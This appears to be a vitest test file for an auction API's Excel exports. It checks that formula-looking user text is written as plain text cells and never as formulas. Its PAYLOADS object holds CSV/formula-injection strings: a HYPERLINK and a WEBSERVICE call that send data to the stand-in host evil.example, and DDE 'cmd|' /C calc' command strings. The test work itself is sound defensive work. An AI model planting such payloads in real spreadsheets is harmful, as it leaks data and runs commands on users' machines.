/**
 * CSV / formula injection (OWASP): user text starting with =, +, -, @, tab or CR is exported as text
 * in every xlsx export of the API (bids, the three report workbooks, exportExcel), never as a
 * formula. Each workbook is read back with exceljs: no cell holds a formula, and every formula-looking
 * text is a string cell in the Text number format ("@"), which Excel does not evaluate even on edit.
 */
import ExcelJS from 'exceljs';
import { beforeAll, describe, expect, it } from 'vitest';
import { testAppForAllTests } from '../kits/test-app-lifecycle.test-kit';
import { passRules, saveBody } from '../kits/participation.test-kit';
import { looksLikeFormula, TEXT_NUMBER_FORMAT } from '../../../../core/validation/spreadsheet-text';

const PAYLOADS = {
  lotName: '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
  lotComment: "+cmd|' /C calc'!A0",
  supplemental: '-2+3+cmd|\' /C calc\'!A0',
  awardAnalysis: '@SUM(1+1)*cmd|\' /C calc\'!A0',
  legal: '=WEBSERVICE("http://evil.example/")',
  borrower: '-1+1',
  tabbed: '\t=1+1',
  carriage: '\r=1+1',
};

const t = testAppForAllTests();
let live: number;
beforeAll(async () => {
  live = t.world.auctions.live.id;
  const { lot1, lot2 } = t.world.lots;
  await t.deps.store.lots.update({ ...lot1, lotName: PAYLOADS.lotName });
  await t.deps.store.lots.update({ ...lot2, lotName: PAYLOADS.tabbed });
  const sb = await t.signIn('superbidder');
  await passRules(t, sb, live);
  const saved = await t.request('POST', `/api/auction/bidssave/${live}`, {
    token: sb,
    json: saveBody([{ lotId: lot1.id, basisPoints: '100', lotComment: PAYLOADS.lotComment }, { lotId: lot2.id, fixed: '25000', lotComment: PAYLOADS.carriage }], PAYLOADS.supplemental),
  });
  expect(saved.status).toBe(200);
  expect((await t.request('POST', `/api/auction/bidsconfirm/${live}`, { token: sb })).status).toBe(200);
  const rec = await t.request('POST', '/api/report/auctionrecommendations/auctionRecommendationsSave', {
    token: await t.signIn('manager'),
    json: [{ id: null, auctionId: live, lotId: lot1.id, awardAnalysis: PAYLOADS.awardAnalysis }],
  });
  expect(rec.status).toBe(200);
  const legal = await t.request('POST', '/api/report/legalcomments/legalCommentsRowSave', {
    token: await t.signIn('manager'),
    json: { borrower: PAYLOADS.borrower, comments: PAYLOADS.legal, auctionId: live },
  });
  expect(legal.status).toBe(200);
});

interface Scan {
  formulaCells: string[];
  formulaLikeTexts: Array<{ address: string; text: string; numFmt: string | undefined; type: ExcelJS.ValueType }>;
}

async function scan(res: Response): Promise<Scan> {
  expect(res.status).toBe(200);
  const book = new ExcelJS.Workbook();
  await book.xlsx.load(await res.arrayBuffer());
  const out: Scan = { formulaCells: [], formulaLikeTexts: [] };
  for (const ws of book.worksheets) {
    ws.eachRow({ includeEmpty: false }, (row) =>
      row.eachCell({ includeEmpty: false }, (cell) => {
        if (cell.type === ExcelJS.ValueType.Formula || cell.formula !== undefined) out.formulaCells.push(cell.address);
        const text = typeof cell.value === 'string' ? cell.value : null;
        if (text !== null && looksLikeFormula(text)) out.formulaLikeTexts.push({ address: cell.address, text, numFmt: cell.numFmt, type: cell.type });
      }),
    );
  }
  return out;
}

const EXPORTS: Array<[string, () => Promise<Response>, string[]]> = [
  ['DOWNLOAD BIDS (/auction/exportbids)', async () => t.request('POST', `/api/auction/exportbids/${live}`, { token: await t.signIn('superbidder') }), [PAYLOADS.lotName, PAYLOADS.lotComment, PAYLOADS.supplemental]],
  ['Full Bid Details', async () => t.request('POST', '/api/excel/report/fullBidDetails', { token: await t.signIn('reporter'), json: { auctionId: live } }), [PAYLOADS.lotComment, PAYLOADS.supplemental, PAYLOADS.awardAnalysis]],
  ['Bidder Legal Comments', async () => t.request('POST', '/api/excel/report/bidderLegalComments', { token: await t.signIn('reporter'), json: { auctionId: live } }), [PAYLOADS.borrower, PAYLOADS.legal]],
  ['Auction Recommendations', async () => t.request('POST', '/api/excel/report/auctionRecommendations', { token: await t.signIn('reporter'), json: { auctionId: live } }), [PAYLOADS.lotName, PAYLOADS.awardAnalysis]],
  [
    'exportExcel (any posted rows)',
    async () => t.request('POST', '/api/excel/exportExcel?fileName=Users.xlsx', { token: await t.signIn('bidder1'), json: [Object.fromEntries(Object.entries(PAYLOADS))] }),
    Object.values(PAYLOADS),
  ],
  [
    'exportExcel with a title block',
    async () =>
      t.request('POST', '/api/excel/exportExcel', {
        token: await t.signIn('bidder1'),
        json: { rows: [{ a: 'x' }], title: { report: PAYLOADS.legal, client: PAYLOADS.borrower, auction: PAYLOADS.tabbed } },
      }),
    [PAYLOADS.legal, PAYLOADS.borrower, PAYLOADS.tabbed],
  ],
];

describe('formula injection in every xlsx export', () => {
  it.each(EXPORTS)('%s writes formula-looking user text as text, never as a formula', async (_name, call, expected) => {
    const found = await scan(await call());
    expect(found.formulaCells).toEqual([]);
    const texts = found.formulaLikeTexts.map((f) => f.text);
    for (const payload of expected) expect(texts.some((x) => x.includes(payload.trim()) || x === payload)).toBe(true);
    for (const cell of found.formulaLikeTexts) {
      expect(cell.type, cell.address).toBe(ExcelJS.ValueType.String);
      expect(cell.numFmt, `${cell.address} ${JSON.stringify(cell.text)}`).toBe(TEXT_NUMBER_FORMAT);
    }
  });
});
